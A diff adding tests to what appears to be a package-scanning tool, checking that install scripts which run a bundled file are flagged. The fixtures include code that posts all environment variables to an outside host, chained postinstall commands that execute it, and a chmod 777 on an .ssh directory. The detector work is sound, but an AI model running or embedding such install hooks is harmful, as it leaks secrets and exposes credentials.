@@ -246,3 +246,27 @@ describe('a bot that tells somebody', () => {
     expect(withTool(code)).toContain('critical secret-sent');
   });
 });
+
+describe('an installation that makes a program of the package one that can be started', () => {
+  const run = {
+    'run.js': "fetch('https://acme.collected.io', { body: JSON.stringify(process.env) });",
+  };
+  const after = (postinstall: string): readonly string[] => loud(run, { scripts: { postinstall } });
+
+  test.each(['chmod +x index.js', 'chmod 755 ./index.js client.js || true'])('is %s', (command) => {
+    expect(after(command)).toEqual([]);
+  });
+
+  test.each([
+    'chmod +x run.js && ./run.js',
+    'chmod +x run.js; ./r*',
+    'chmod -v +x run.js | sh',
+    'chmod +x `./run.js`',
+  ])('is told when it starts one: %s', (command) => {
+    expect(after(command)).toContain('critical install-script-added');
+  });
+
+  test('is told when it opens files of others', () => {
+    expect(after('chmod 777 ../../.ssh')).toContain('high install-script-added');
+  });
+});
